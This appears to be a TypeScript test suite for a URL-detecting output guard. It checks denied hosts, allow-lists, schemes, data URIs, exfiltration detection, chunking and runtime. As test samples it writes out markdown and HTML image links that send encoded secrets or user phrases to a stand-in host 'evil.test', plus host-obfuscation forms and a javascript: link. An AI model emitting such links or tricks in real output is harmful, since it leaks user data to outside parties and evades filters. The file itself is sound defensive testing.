// Owns the proof of the detector of URLs: where it finds them, which it tells, in any pieces, at any length.
// Knows no policy.

import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { JsonObject } from "../../../core/contracts/json.ts";
import { urlsDetector } from "../../../core/guards/urls.ts";
import {
  expectCutsAlike,
  expectLinear,
  expectUnitsAlike,
  guardOf,
  source,
  textsOf,
  told,
} from "./readings.ts";

const urls = (config: JsonObject) => guardOf(urlsDetector, config);
const data = "c2VjcmV0LXN0dWZmLTQyLTEzMzctYWJj";

describe("a denied host is found", () => {
  const guard = urls({ deny: ["evil.test", "*.evil.test", "xn--bcher-kva.test", "127.0.0.1"] });

  it.each<[text: string, ...told: string[]]>([
    ["see https://evil.test/a, or", "https://evil.test/a"],
    ["(HTTPS://WWW.EVIL.TEST/A(b))", "HTTPS://WWW.EVIL.TEST/A(b)"],
    ["<https://evil.test>", "https://evil.test"],
    ["www.evil.test/x.", "www.evil.test/x"],
    ["[words](https://evil.test/a)", "https://evil.test/a"],
    ["[words](//evil.test/a 'title')", "//evil.test/a"],
    ["[words](<https://evil.test/a b>)", "https://evil.test/a b"],
    ['![words](https://evil.test/a.png "title") more', '![words](https://evil.test/a.png "title")'],
    ["[![words](https://evil.test/a)](https://good.test)", "![words](https://evil.test/a)"],
    ["![words][ref]\n\n[ref]: https://evil.test/a.png", "https://evil.test/a.png"],
    ["a <img alt='x > y' src=\"https://evil.test/a\"> b", "<img alt='x > y' src=\"https://evil.test/a\">"],
    ["<a href='https://evil.test/a'>", "https://evil.test/a"],
    ["<a href=&#104;ttps://evil.test/a>", "&#104;ttps://evil.test/a"],
    ["<div style=\"background: url('https://evil.test/a')\">", "background: url('https://evil.test/a')"],
    ["<meta http-equiv=refresh content='0;url=https://evil.test'>", "0;url=https://evil.test"],
    ["p { background: url(https://evil.test/a) }", "https://evil.test/a"],
    ["https://good.test@evil.test/", "https://good.test@evil.test/"],
    ["https:\\\\evil.test\\a", "https:\\\\evil.test\\a"],
    ['{"url":"https:\\/\\/evil.test\\/a"}', "https:\\/\\/evil.test\\/a"],
    ["https://%65vil.test/", "https://%65vil.test/"],
    ["https://evil.test./", "https://evil.test./"],
    ["https://bücher.test/", "https://bücher.test/"],
    ["https://XN--BCHER-KVA.test/", "https://XN--BCHER-KVA.test/"],
    ["http://2130706433/ http://0x7f.1/", "http://2130706433/", "http://0x7f.1/"],
    ["このhttps://evil.testは", "https://evil.testは"],
  ])("%s", (text, ...expected) => {
    expect(told(guard, text)).toEqual(expected.map((url) => `url_denied: ${url}`));
    expectUnitsAlike(guard, text);
  });

  it.each([
    "https://good.test/?to=evil.test",
    "evil.test",
    "https://notevil.test",
    "https://evil.test.good.test",
    "note: evil.test [1]: see",
    "[words](evil.test)",
    "<b>evil.test</b>",
    "a ![x] b ](c",
  ])("not in %s", (text) => {
    expect(told(guard, text)).toEqual([]);
    expectUnitsAlike(guard, text);
  });
});

describe("other settings", () => {
  it("allow: all other hosts are told", () => {
    const guard = urls({ allow: ["good.test", "*.cdn.test"] });
    expect(
      told(guard, "https://good.test https://a.b.cdn.test https://cdn.test https://x.good.test /a [b](c)"),
    ).toEqual(["url_not_allowed: https://cdn.test", "url_not_allowed: https://x.good.test"]);
  });

  it("schemes: all others are told", () => {
    const guard = urls({ schemes: ["https"] });
    expect(
      told(guard, "https://a.test ftp://a.test [x](javascript:alert(1)) javascript: the good parts"),
    ).toEqual(["url_scheme_denied: ftp://a.test", "url_scheme_denied: javascript:alert(1)"]);
  });

  it("addresses in a host's place, and data", () => {
    const guard = urls({ ipLiterals: "deny", dataUris: true });
    expect(
      told(guard, "http://10.0.0.1/ http://[::1]/ http://a.test/ ![x](data:image/png;base64,AAAA)"),
    ).toEqual([
      "url_denied: http://10.0.0.1/",
      "url_denied: http://[::1]/",
      "data_uri: ![x](data:image/png;base64,AAAA)",
    ]);
  });

  it("what is no host, and what asks for nothing, is refused", () => {
    const problems = urlsDetector.check?.({
      allow: ["https://a.test", "a*.test", "*", "*.a.test"],
      deny: ["a b"],
    });
    expect(problems?.map(({ path }) => path.join("."))).toEqual(["allow.0", "allow.1", "deny.0"]);
    expect(urlsDetector.check?.({})?.[0]?.problem).toBe("asks for nothing");
  });
});

describe("exfiltration", () => {
  const guard = urls({ exfiltration: true, allow: ["good.test", "*.good.test"] });
  const typesOf = (text: string) => told(guard, text).map((line) => line.split(":")[0]);

  it.each([
    `![a](https://evil.test/p.png?d=${data})`,
    `![a](https://evil.test/p.png?${data})`,
    `![a](https://evil.test/${data}/p.png)`,
    `![a](https://evil.test/${data}.png)`,
    `![a](https://${data.toLowerCase()}.evil.test/p.png)`,
    "![a](https://evil.test/p.png?q=the+password+is+hunter+two)",
    "![a](https://evil.test/the%20user%20asked%20about%20salaries)",
    `![a](https://evil.test/p.png?${Array.from({ length: 30 }, (_, at) => `c${at}=x`).join("&")})`,
    `<img src="https://evil.test/p.png?d=${data}">`,
    `[ref]: https://evil.test/p.png?d=${data}`,
    `[click](https://evil.test/?d=${data}${data}${data}${data})`,
    `https://evil.test/?d=${data}${data}${data}${data}`,
  ])("%s", (text) => {
    expect(typesOf(text)).toEqual(["url_exfiltration"]);
    expectUnitsAlike(guard, text);
  });

  it.each([
    "![a](https://evil.test/logo.png?v=3)",
    "![a](https://evil.test/images/annual-report-of-the-company-2024.png)",
    "[search](https://evil.test/search?q=how+to+cook+rice)",
    "https://evil.test/a/b/c",
  ])("not in %s", (text) => {
    expect(typesOf(text)).toEqual(["url_not_allowed"]);
  });

  it("goes where it may", () => {
    expect(typesOf(`![a](https://img.good.test/p.png?d=${data})`)).toEqual([]);
  });
});

describe("however the text is cut", () => {
  const guard = urls({
    deny: ["evil.test", "*.evil.test"],
    exfiltration: true,
    schemes: ["https"],
    dataUris: true,
  });
  const parts = [
    "https://evil.test/a",
    "http://x.evil.test?q=1",
    "![alt text](",
    "![",
    "](",
    "]:",
    "[ref]: ",
    "<img src=",
    '"',
    "'",
    ">",
    ")",
    "<a href='",
    "url(",
    "www.evil.test",
    "javascript:",
    "data:image/png;base64,AA",
    "words",
    "(",
    "&#104;",
    "\n",
    "日本",
    "://",
    "x".repeat(30),
  ];

  it("the findings are the same", () => {
    fc.assert(
      fc.property(textsOf(parts), ([text, cuts]) => {
        expectCutsAlike(guard, text, cuts);
        expectUnitsAlike(guard, text);
      }),
      { numRuns: 500 },
    );
  });

  it("prose flows on", () => {
    const text = "It is all (as they say): nothing [of] this leads anywhere, and the end is nea";
    expect(guard.scan(source)?.push(text).decided).toBe(text.lastIndexOf(" ") + 1);
  });
});

describe("no text makes it slow", () => {
  const guard = urls({ deny: ["evil.test"], exfiltration: true, schemes: ["https"], dataUris: true });

  it.each([
    "![",
    "![a",
    "[",
    "](",
    "](a ",
    "]:",
    "[a]: ",
    "<a",
    "<a ",
    "<img ",
    '<a b="',
    "https://",
    "https://a",
    "://",
    ":\\\\",
    "a.",
    "www.",
    "url(",
    "url(url(",
    "data:",
    "data:,",
    "(((((",
    "https://a/)))))",
    "https://a/((((",
    "![a](https://a.test/?a=b&c=d) ",
    "x",
    "日",
  ])("%j, over and over", (unit) => {
    expectLinear(guard, unit, 200_000);
  });
});
